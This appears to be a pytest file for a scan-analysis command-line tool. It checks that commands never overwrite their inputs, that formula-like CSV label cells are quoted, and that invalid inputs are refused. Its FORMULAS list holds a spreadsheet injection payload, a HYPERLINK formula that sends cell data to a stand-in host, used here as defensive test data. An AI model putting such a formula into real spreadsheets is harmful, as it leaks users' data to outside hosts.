"""Trust, part three (items 4, 5, 7): real command-line runs on small files.

4. No command writes over one of its inputs (the same path, a link to it, a hard link, a file inside an
   input folder): exit 2, one line, every input's SHA-256 unchanged.
5. CSV cells of user text that a spreadsheet would run as a formula start with `'`; JSON keeps the text.
7. Silently wrong results are refused in one line naming the option or file; NaN Euler angles at points
   that are not indexed are accepted.
"""
import json
import os
import subprocess
import sys
from pathlib import Path

import h5py
import numpy as np
import pandas as pd
import pytest

from latentcore.analysis.labels.labelled import labels_table, read_labels_table, write_labels
from latentcore.cli import main
from latentcore.storage import sha256_file
from latentcore.storage.csv_cells import neutralised_table
from cli_lines import refused
from small_files import STEP, TEST_DATA, labels_by_row, scan_files, scan_latents, vae_checkpoint, write_scan

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def files(tmp_path):
    return scan_files(tmp_path)


def digests(folder):
    return {p: sha256_file(p) for p in folder.rglob("*") if p.is_file() and not p.is_symlink()}


# -- 4. a command never writes over its inputs ------------------------------------------------------------

def _same_path(f):
    return f["scan"]


def _symbolic_link(f):
    link = f["folder"] / "link.h5"
    link.symlink_to(f["scan"])
    return link


def _hard_link(f):
    link = f["folder"] / "hard.h5"
    os.link(f["scan"], link)
    return link


@pytest.mark.parametrize("out", [_same_path, _symbolic_link, _hard_link], ids=["same-path", "symlink", "hard-link"])
def test_export_onto_its_own_scan_is_refused(files, out, capsys):
    target = out(files)
    before = digests(files["folder"])
    line = refused(["export", files["scan"], "--labels", files["labels"], "--out", target], capsys, "is an input")
    assert f"--out {target}" in line
    assert digests(files["folder"]) == before and h5py.is_hdf5(files["scan"])


OVERWRITES = {  # command line (files -> argv) whose --out is one of its inputs
    "compare": lambda f: ["compare", f["latents"], f["latents"], "--labels", f["labels"], "--out", f["labels"]],
    "probe": lambda f: ["probe", f["latents"], "--labels", f["labels"], "--out", f["labels"]],
    "cluster": lambda f: ["cluster", f["latents"], "--features", "latent", "--method", "kmeans", "--k", "2",
                          "--out", f["latents"]],
    "maps": lambda f: ["maps", f["latents"], "--out", f["latents"], "--no-png"],
    "rank": lambda f: ["rank", f["latents"], "--labels", f"{f['labels']}:label", "--out", f["labels"]],
    "references": lambda f: ["references", f["scan"], "--out", f["scan"]],
    "mean-pattern": lambda f: ["mean-pattern", f["latents"], "--source", f["scan"], "--rows", "0-3",
                               "--out", f["scan"]],
    "extract": lambda f: ["extract", f["scan"], "--model", vae_checkpoint(f["folder"] / "vae.pth"),
                          "--out", f["scan"], "--device", "cpu"],
    "umap": lambda f: ["umap", f["latents"], "--method", "pca", "--out", f["latents"]],
    "train-vae": lambda f: ["train-vae", f["scan"], "--out", f["scan"], "--epochs", "1"],
    "bandcontrast": lambda f: ["bandcontrast", f["labels"], "--out", f["labels"]],
}


@pytest.mark.parametrize("command", list(OVERWRITES))
def test_out_onto_an_input_is_refused_by_every_command(files, command, capsys):
    argv = OVERWRITES[command](files)
    before = digests(files["folder"])
    refused(argv, capsys, "is an input of this command")
    assert digests(files["folder"]) == before


def test_an_out_folder_named_as_the_command_is_not_an_input(files, monkeypatch, capsys):
    """`cluster ... --out cluster` run twice from one folder (the second replacing the first's files, --clobber): the
    command's own name is not a path it reads."""
    monkeypatch.chdir(files["folder"])
    argv = ["cluster", files["latents"], "--features", "latent", "--method", "kmeans", "--k", "2", "--out", "cluster"]
    assert main([str(a) for a in argv]) == 0 and main([str(a) for a in [*argv, "--clobber"]]) == 0, \
        capsys.readouterr().err


def test_a_file_written_inside_the_out_folder_is_checked_too(files, capsys):
    """The predictions CSV's own name inside --out is the labels file: refused when it would be written."""
    out = files["folder"] / "probe"
    out.mkdir()
    labels = labels_by_row(out / "probe_predictions__logistic.csv", ["a"] * 10 + ["b"] * 10)
    before = digests(files["folder"])
    refused(["probe", files["latents"], "--labels", labels, "--out", out, "--no-png"], capsys,
            f"{labels}: is an input of this command")
    assert digests(files["folder"]) == before


def test_an_output_inside_an_input_folder_is_refused(tmp_path, capsys):
    """An image folder's SHA-256 is its files': latents written into it would change the input."""
    from PIL import Image

    images = tmp_path / "images"
    images.mkdir()
    for k in range(4):
        Image.fromarray(np.random.default_rng(k).integers(0, 255, (60, 60), dtype=np.uint8)).save(images / f"{k}.png")
    model = vae_checkpoint(tmp_path / "vae.pth")
    before = digests(tmp_path)
    refused(["extract", images, "--model", model, "--out", images / "latents", "--device", "cpu"], capsys,
            "inside the input folder")
    assert digests(tmp_path) == before and not (images / "latents").exists()


def test_rerun_still_rewrites_its_report_in_its_own_folder(files, capsys):
    """The one argument rewritten on purpose: `rerun REPORT` redoes the report beside it."""
    out = files["folder"] / "c"
    assert main(["cluster", str(files["latents"]), "--features", "latent", "--method", "kmeans", "--k", "2",
                 "--out", str(out), "--no-png"]) == 0
    report = next(out.glob("cluster_report__*.json"))
    assert main(["rerun", str(report), "--no-png"]) == 0 and "reproduced" in capsys.readouterr().out


# -- 5. formulas in CSV cells ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-x", "@SUM(A1)"]


def test_probe_predictions_neutralise_formula_labels_and_the_report_keeps_them(tmp_path):
    """A real `python -m latentcore probe` run: the labels are a collaborator's formulas."""
    scan = write_scan(tmp_path / "scan.h5")
    latents = scan_latents(tmp_path / "scan_latents.h5", scan, x_offset=-6.0)  # negative x: numbers stay numbers
    labels = labels_by_row(tmp_path / "labels.csv", [name for name in FORMULAS for _ in range(5)])
    out = tmp_path / "probe"
    run = subprocess.run([sys.executable, "-m", "latentcore", "probe", str(latents), "--labels", str(labels),
                          "--out", str(out), "--no-png", "--cv", "2"], cwd=REPO, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    report = json.loads(next(out.glob("probe_report__*.json")).read_text())
    assert sorted(report["classes"]) == sorted(FORMULAS)  # JSON: the raw text
    table = pd.read_csv(next(out.glob("probe_predictions__*.csv")), keep_default_na=False, dtype=str)
    for column in ("label", "given"):
        cells = table[column][table[column] != ""]
        assert len(cells) and all(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells), cells
    assert table["x_um"].iloc[0] == "-6.0" and float(table["probability"].iloc[0]) > 0  # numbers untouched


def test_labels_written_by_the_app_start_with_a_quote_and_read_back_the_same(tmp_path):
    names = np.array(FORMULAS + ["'=already quoted", "plain", "\tTabbed"])
    path = write_labels(tmp_path / "labels.csv", labels_table(np.arange(len(names)), names))
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)["label"].tolist()  # as a spreadsheet shows them
    assert cells == [f"'{name}" for name in FORMULAS] + ["''=already quoted", "plain", "'\tTabbed"]
    assert read_labels_table(path)["label"].tolist() == names.tolist()  # exactly as given, the tab kept


def test_only_text_cells_are_neutralised():
    table = pd.DataFrame({"value": [-1.5, 2.0], "count": [-3, 4], "name": ["-x", "y"],
                          "kind": pd.Categorical(["@a", "b"])})
    out = neutralised_table(table)
    assert out["value"].tolist() == [-1.5, 2.0] and out["count"].tolist() == [-3, 4]
    assert out["name"].tolist() == ["'-x", "y"] and out["kind"].astype(str).tolist() == ["'@a", "b"]
    assert table["name"].tolist() == ["-x", "y"]  # the caller's table is left as it was


def test_categories_written_by_arrows_writer_are_neutralised(tmp_path):
    """`write_csv` sends a table of numbers and categorical columns (the pole figures' points) to Arrow's writer,
    which is given each category neutralised, as pandas' writer is given text cells."""
    from latentcore.analysis.artifacts.common import write_csv

    table = pd.DataFrame({"row": [0, 1, 2], "kind": pd.Categorical(["@a", "b", "@a"]), "value": [-1.5, 2.0, 0.25]})
    cells = pd.read_csv(write_csv(tmp_path / "kinds.csv", table), dtype=str)
    assert cells["kind"].tolist() == ["'@a", "b", "'@a"] and cells["value"].tolist() == ["-1.5", "2", "0.25"]
    assert table["kind"].tolist() == ["@a", "b", "@a"]


# -- 7. silently wrong results ----------------------------------------------------------------------------------

def test_mean_pattern_refuses_a_table_of_another_scan(files, capsys):
    """Rows 0..19 exist in both scans, but this table's row 7 lies elsewhere (another scan, 5 rows of 4)."""
    rows = np.arange(20)
    other = files["folder"] / "other_clusters.csv"
    pd.DataFrame({"row": rows, "x_um": STEP * (rows % 4), "y_um": STEP * (rows // 4),
                  "cluster": rows % 2}).to_csv(other, index=False)
    before = digests(files["folder"])
    line = refused(["mean-pattern", files["latents"], "--source", files["scan"], "--table", other, "--cluster", "1",
                    "--out", files["folder"] / "mean", "--no-png"], capsys, str(other))
    assert "x_um" in line and "another scan" in line
    assert digests(files["folder"]) == before
    own = files["folder"] / "own_clusters.csv"
    pd.DataFrame({"row": rows, "x_um": STEP * (rows % 5), "y_um": STEP * (rows // 5),
                  "cluster": rows % 2}).to_csv(own, index=False)
    assert main(["mean-pattern", str(files["latents"]), "--source", str(files["scan"]), "--table", str(own),
                 "--cluster", "1", "--out", str(files["folder"] / "mean"), "--no-png"]) == 0


def test_compare_refuses_latents_without_a_source_digest(files, capsys):
    region = scan_latents(files["folder"] / "region_latents.h5", files["scan"], source_sha256=None, seed=2)
    before = digests(files["folder"])
    line = refused(["compare", files["latents"], region, "--labels", files["labels"]], capsys, str(region))
    assert "no source SHA-256" in line and "--unknown-source" in line
    assert digests(files["folder"]) == before
    assert main(["compare", str(files["latents"]), str(region), "--labels", str(files["labels"]),
                 "--unknown-source"]) == 0


def test_compare_refuses_latents_of_another_region_even_when_told_the_source_is_unknown(files, capsys):
    shifted = scan_latents(files["folder"] / "shifted_latents.h5", files["scan"], source_sha256=None, x_offset=30)
    refused(["compare", files["latents"], shifted, "--labels", files["labels"], "--unknown-source"], capsys,
            "other x, y")


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "0", "-5", "181"])
def test_references_refuses_a_boundary_angle_outside_0_to_180(files, value, capsys):
    refused(["references", files["scan"], "--out", files["folder"] / "refs", "--boundary-deg", value], capsys,
            "--boundary-deg")
    assert not (files["folder"] / "refs").exists()


DPI_COMMANDS = {
    "maps": lambda f: ["maps", f["latents"], "--out", f["folder"] / "o"],
    "mean-pattern": lambda f: ["mean-pattern", f["latents"], "--source", f["scan"], "--rows", "0-3",
                               "--out", f["folder"] / "o"],
    "probe": lambda f: ["probe", f["latents"], "--labels", f["labels"], "--out", f["folder"] / "o"],
    "rank": lambda f: ["rank", f["latents"], "--labels", f"{f['labels']}:label", "--out", f["folder"] / "o"],
    "references": lambda f: ["references", f["scan"], "--out", f["folder"] / "o"],
    "orientations": lambda f: ["orientations", f["scan"], "--rows", "0-3", "--out", f["folder"] / "o"],
}


@pytest.mark.parametrize("value", ["0", "-300", "nan", "5000"])
@pytest.mark.parametrize("command", list(DPI_COMMANDS))
def test_every_dpi_option_refuses_a_resolution_outside_10_to_2400(files, command, value, capsys):
    refused(DPI_COMMANDS[command](files) + ["--dpi", value], capsys, "argument --dpi")
    assert not (files["folder"] / "o").exists()


def test_references_refuses_more_detector_tiles_than_pattern_pixels(files, capsys):
    line = refused(["references", files["scan"], "--out", files["folder"] / "refs", "--vbse-grid", "1000", "1000"],
                   capsys, "--vbse-grid 1000 1000")
    assert "60 x 60" in line and str(files["scan"]) in line


def _edax_with_nan_euler(path, indexed: bool):
    path.write_bytes((TEST_DATA / "ebsd" / "ni_grains_edax.h5").read_bytes())
    with h5py.File(path, "a") as f:
        f["Scan 1/EBSD/Data/Phi1"][7] = np.nan
        f["Scan 1/EBSD/Data/CI"][7] = 0.5 if indexed else -1  # CI -1: EDAX's point that is not indexed
    return path


def test_nan_euler_angles_at_a_point_that_is_not_indexed_are_accepted(tmp_path, capsys):
    scan = _edax_with_nan_euler(tmp_path / "scan.h5", indexed=False)
    out = tmp_path / "refs"
    assert main(["references", str(scan), "--out", str(out), "--no-patterns", "--no-figures"]) == 0
    with np.load(out / "references.npz") as refs:
        ipf, indexed = refs["ipf_z"].reshape(-1, 3), refs["indexed"].reshape(-1)
        kam, grains = refs["kam"].reshape(-1), refs["grains"].reshape(-1)
    assert np.isnan(ipf[7]).all() and not indexed[7] and np.isfinite(ipf[[6, 8]]).all()
    assert np.isnan(kam[7]) and grains[7] == -1 and np.isfinite(kam[[6, 8]]).all()


def test_nan_euler_angles_at_an_indexed_point_are_refused(tmp_path, capsys):
    scan = _edax_with_nan_euler(tmp_path / "scan.h5", indexed=True)
    line = refused(["references", scan, "--out", tmp_path / "refs", "--no-patterns"], capsys, "NaN or infinite")
    assert str(scan) in line and "1 indexed points (first: point 7)" in line
